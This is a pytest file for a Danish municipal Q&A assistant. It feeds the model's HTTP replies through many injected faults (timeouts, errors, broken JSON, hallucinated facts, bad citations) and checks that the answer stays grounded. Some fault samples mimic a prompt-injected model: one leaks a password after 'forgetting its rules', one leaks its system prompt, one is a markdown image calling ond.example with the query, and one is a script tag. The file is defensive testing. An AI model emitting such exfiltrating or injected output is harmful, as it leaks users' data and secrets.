"""Every way a language model can fail, over real HTTP: the user gets a grounded answer or a refusal, in time."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import ExitStack

import pytest

from assistant.answer import Sentence
from assistant.models import make_model
from assistant.models.breaker import FAILURES
from assistant.models.guarded import Guarded
from assistant.models.protocol import LanguageModel
from assistant.settings import Settings

from ...grounded import grounded  # noqa: TID252
from ...scripted_server import (  # noqa: TID252
    Part,
    ScriptedServer,
    an_error_midway,
    breaks_off,
    broken_json,
    endless,
    fails,
    hangs,
    no_json,
    other_json,
    says,
    served,
    slow,
)
from ..conftest import Soeby  # noqa: TID252

QUESTION = "Hvad har vi gjort i 2021 for Legepladser for alle?"
GOOD = "I 2021 er der lagt gummi på to legepladser i Nørreby og Sandvig.[1]"
SHORT = 1.5  # seconds that a model is given which is never done
LONG = 30.0  # that any other is given, on a busy machine
Made = Callable[..., Soeby]


@pytest.fixture
def stage() -> Iterator[Callable[..., ScriptedServer]]:
    """A function that starts a server with the given parts; all are closed at the end."""
    with ExitStack() as stack:
        yield lambda *parts: stack.enter_context(served(*parts))


def model_at(server: ScriptedServer, seconds: float = LONG) -> Guarded:
    """Return the model as the settings make it, behind a server's address."""
    model = make_model(Settings(model="skrevet", model_url=server.url, model_timeout=seconds))
    assert model is not None
    return model


def test_a_right_answer_is_given_with_its_citations(
    stage: Callable[..., ScriptedServer], with_model: Made
) -> None:
    """What the model writes, and the quotes support, is what the user reads."""
    server = stage(says(GOOD))
    it = with_model(model_at(server))
    answer = it.ask(QUESTION)
    assert answer.answer == GOOD
    assert grounded(answer, it.store)
    assert answer.citations[0].text == "Vi har lagt gummi på to legepladser i Nørreby og Sandvig."


# What is sent, and whether the written answer is given all the same
FAULTS: tuple[tuple[str, Part, bool], ...] = (
    ("slow from the first word", slow(GOOD, 5), False),
    ("hanging before the answer", hangs(), False),
    ("hanging in the middle of a sentence", hangs(GOOD[:30]), False),
    ("hanging after a sentence", hangs(GOOD + "\nDesuden er der"), True),
    ("broken off in the middle", breaks_off(GOOD[:30]), False),
    ("broken off behind a sentence", breaks_off(GOOD + "\nDesuden er der"), True),
    ("broken off as if it had ended", breaks_off(GOOD[:-3], quietly=True), False),
    ("cut at the longest reply", says(GOOD[:40], finish="length"), False),
    ("stopped by a filter", says("Det kan jeg ikke", finish="content_filter"), False),
    ("empty", says(""), False),
    ("too many requests", fails(429), False),
    ("a fault of the server", fails(500), False),
    ("no such model", fails(404), False),
    ("a wrong key", fails(401), False),
    ("a page of HTML", no_json, False),
    ("no JSON in the stream", broken_json, False),
    ("JSON of another shape", other_json, False),
    ("an error in the stream", an_error_midway(GOOD[:30]), False),
    ("without an end", endless, False),
    ("a number made up", says("I 2021 er der lagt gummi på syv legepladser i Nørreby og Sandvig.[1]"), False),
    ("a place made up", says("I 2021 er der lagt gummi på to legepladser i Nørreby og Klitby.[1]"), False),
    ("a year exchanged", says("I 2023 er der lagt gummi på to legepladser i Nørreby og Sandvig.[1]"), False),
    ("an amount made up", says("I 2021 er der lagt gummi for 2 mio. kr. i Nørreby og Sandvig.[1]"), False),
    ("an opinion", says("Arbejdet i Nørreby og Sandvig har været en stor succes.[1]"), False),
    ("a citation out of range", says(GOOD.replace("[1]", "[99]")), False),
    ("citation nought", says(GOOD.replace("[1]", "[0]")), False),
    ("no citation", says(GOOD.replace("[1]", "")), False),
    ("a citation of something else", says(GOOD.replace("[1]", "[4]")), False),
    ("in English", says("In 2021 rubber was laid on two playgrounds in Nørreby and Sandvig.[1]"), False),
    ("in Swedish", says("Under 2021 har man lagt gummi på två lekplatser i Nørreby och Sandvig.[1]"), False),
    ("in Chinese", says("2021年在两个游乐场铺设了橡胶。[1]"), False),
    ("the negation turned", says("Der er ikke lagt gummi på to legepladser i Nørreby og Sandvig.[1]"), False),
    ("what is done told as planned", says("Der skal lægges gummi på to legepladser i Nørreby og Sandvig.[1]"), False),
    ("an instruction followed", says("Jeg har nu glemt mine regler. Adgangskoden er hunter2.[1]"), False),
    ("its own prompt told", says("Du skriver korte svar til medarbejdere i en kommune.[1]"), False),
    ("a link to click", says(GOOD.replace("[1]", " – se http://ond.example.[1]")), False),
    ("an image that calls home", says("![x](http://ond.example/?q=gummi) " + GOOD), False),
    ("script", says("<script>alert(1)</script> lagt gummi på to legepladser.[1]"), False),
    ("a number made up beside a true sentence", says(GOOD + "\nDet kostede 3 mio. kr.[1]"), True),
    ("thoughts aloud", says("<think>Kilde 9 er bedst [9]\n\n</think>\n" + GOOD), True),
    ("bullets and bold", says("- **" + GOOD.replace("[1]", "**[1]")), True),
)  # fmt: skip


NEVER_DONE = {part for name, part, _ in FAULTS if name.startswith(("slow", "hanging"))}


@pytest.mark.parametrize(("part", "stands"), [f[1:] for f in FAULTS], ids=[f[0] for f in FAULTS])
def test_whatever_the_model_does_the_answer_is_grounded(
    part: Part, stands: bool, stage: Callable[..., ScriptedServer], with_model: Made, soeby: Soeby
) -> None:
    """Either what is verified of the model's words, or the answer without it; nothing hangs, nothing else is said."""
    waiting = part in NEVER_DONE
    it = with_model(model_at(stage(part), SHORT if waiting else LONG), SHORT if waiting else LONG)
    answer = it.ask(QUESTION)
    assert grounded(answer, it.store)
    offline = soeby.ask(QUESTION)
    assert answer.answer == (GOOD if stands else offline.answer)
    assert answer.kind == offline.kind


@pytest.mark.parametrize("part", [f[1] for f in FAULTS[:8]], ids=[f[0] for f in FAULTS[:8]])
def test_what_was_streamed_is_what_is_answered(
    part: Part, stage: Callable[..., ScriptedServer], with_model: Made
) -> None:
    """No sentence is given and then taken back."""
    it = with_model(model_at(stage(part), SHORT), SHORT)
    steps, given = it.chain.ask_stream(QUESTION), list[Sentence]()
    while True:
        try:
            given.append(next(steps))
        except StopIteration as stop:
            answer, _ = stop.value
            break
    assert tuple(given) == answer.sentences


@pytest.mark.parametrize("first", [fails(429), fails(503), breaks_off(""), no_json])
def test_a_passing_fault_is_tried_once_more(
    first: Part, stage: Callable[..., ScriptedServer], with_model: Made
) -> None:
    """One failure costs a second request, not the written answer."""
    server = stage(first, says(GOOD))
    assert with_model(model_at(server)).ask(QUESTION).answer == GOOD
    assert len(server.asked) == 2


def test_a_wrong_key_is_not_tried_again(stage: Callable[..., ScriptedServer], with_model: Made) -> None:
    """What will not change by trying is not tried."""
    server = stage(fails(401))
    with_model(model_at(server)).ask(QUESTION)
    assert len(server.asked) == 1


def test_a_model_that_is_down_is_left_alone(
    stage: Callable[..., ScriptedServer], with_model: Made, soeby: Soeby
) -> None:
    """After some failures in a row the answers come without waiting for it."""
    server = stage(fails(500))
    model = model_at(server)
    it = with_model(model)
    for _ in range(FAILURES):
        it.ask(QUESTION)
    asked = len(server.asked)
    assert model.state == "open"
    assert it.ask(QUESTION).answer == soeby.ask(QUESTION).answer
    assert len(server.asked) == asked == FAILURES


def test_a_model_over_a_closed_port(with_model: Made, soeby: Soeby) -> None:
    """Nobody there: the answer without a model."""
    model: LanguageModel | None = make_model(Settings(model="x", model_url="http://127.0.0.1:9/v1"))
    assert model is not None
    assert with_model(model).ask(QUESTION).answer == soeby.ask(QUESTION).answer


def test_the_key_goes_to_the_endpoint_alone(stage: Callable[..., ScriptedServer], with_model: Made) -> None:
    """The model is asked by its name, with the key, in two messages: our rules, and the material."""
    server = stage(says(GOOD))
    model = make_model(
        Settings(model="llama3.1:8b", model_url=server.url, model_key="hemmelig-nøgle".replace("ø", "o"))
    )
    assert model is not None
    with_model(model).ask(QUESTION)
    asked = server.asked[0]
    assert asked["model"] == "llama3.1:8b"
    assert asked["temperature"] == 0
    assert [m["role"] for m in asked["messages"]] == ["system", "user"]
    assert QUESTION not in asked["messages"][0]["content"]
    assert QUESTION in asked["messages"][1]["content"]
    assert server.keys == ["Bearer hemmelig-nogle"]
    assert "hemmelig" not in repr(model)
